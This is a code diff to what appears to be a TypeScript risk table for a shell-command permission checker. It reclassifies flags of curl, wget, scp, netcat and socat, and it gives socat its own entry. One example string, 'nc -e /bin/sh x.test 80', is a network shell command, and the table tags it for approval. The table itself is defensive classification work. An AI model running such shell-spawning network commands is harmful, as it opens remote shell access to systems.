@@ -21,7 +21,7 @@ export const network: ReadonlyArray<CommandEntry> = [
       "-d= --data= --data-binary= --data-raw= --data-ascii= --data-urlencode=": "text",
       "-T= --upload-file= --etag-compare=": "reads",
       "--url=": "connects",
-      "-K= --config=": "unknown",
+      "-K= --config=": "redefines",
     },
     when: { "-O --remote-name --remote-name-all -J --remote-header-name": { also: { writes: "." } } },
     examples: {
@@ -44,7 +44,8 @@ export const network: ReadonlyArray<CommandEntry> = [
       "-O= -P= -o= -a= --output-document= --directory-prefix= --output-file= --append-output= --save-cookies= --warc-file=":
         "writes",
       "-i= --input-file= --post-file= --body-file= --load-cookies=": "reads",
-      "-e= --execute= --config= --use-askpass=": "unknown",
+      "--use-askpass=": "script",
+      "-e= --execute= --config=": "redefines",
       "--post-data= --body-data=": "text",
     },
     also: { writes: "." },
@@ -82,7 +83,7 @@ export const network: ReadonlyArray<CommandEntry> = [
     risk: "remote-write",
     operands: "remote-reads* remote-writes",
     flags: "-3 -4 -6 -A -B -C -O -p -q -r -s -T -v -R -c= -i= -J= -l= -P=",
-    options: { "-S= -D= -b=": "runs", "-o= -F=": "unknown" },
+    options: { "-S= -D=": "script", "-b=": "runs", "-o= -F=": "unknown" },
     recursive: "-r",
     examples: {
       "scp a.txt host:/tmp/": "ask remote-write read:a.txt write:host:/tmp/",
@@ -99,16 +100,26 @@ export const network: ReadonlyArray<CommandEntry> = [
     examples: { "ssh-keygen -t ed25519 -f key": "ask local-write write:key" },
   },
   {
-    command: "nc | ncat | netcat | socat | ftp | tftp",
+    command: "nc | ncat | netcat | ftp | tftp",
     risk: "remote-write",
     operands: "connects text*",
     flags: "-4 -6 -d -h -k -l -n -p= -r -s= -t -u -v -w= -z -q= -U -C -N -i= -x= -X=",
-    options: { "-e= -c= --exec= --sh-exec= --lua-exec=": "runs" },
+    options: { "-e= -c= --exec= --sh-exec=": "script", "--lua-exec=": "runs" },
     isRunner: true,
     examples: {
       "nc -z x.test 80": "ask remote-write connect:x.test",
       "nc -e /bin/sh x.test 80": "ask remote-write execute:/bin/sh connect:x.test",
     },
+  },
+  {
+    command: "socat",
+    risk: "remote-write",
+    // Addresses may be commands.
+    operands: "code*",
+    flags: "-d -D -v -x -u -U -s -b= -t= -T= -l= -4 -6",
+    also: { connects: "an address" },
+    isRunner: true,
+    examples: { "socat - TCP:x.test:80": "ask remote-write execute:- execute:TCP:x.test:80 connect:an address" },
   },
   {
     command: "ping | ping6 | traceroute | tracepath | mtr | dig | nslookup | host | whois | drill",
@@ -135,7 +146,7 @@ export const network: ReadonlyArray<CommandEntry> = [
   {
     command: "openssl s_client",
     risk: "remote-write",
-    operands: "text*",
+    operands: "connects*",
     flags: "-showcerts -servername= -brief -quiet -starttls= -verify= -alpn= -tls1_2 -tls1_3 -CAfile=",
     options: { "-connect=": "connects" },
     examples: { "openssl s_client -connect x.test:443": "ask remote-write connect:x.test" },
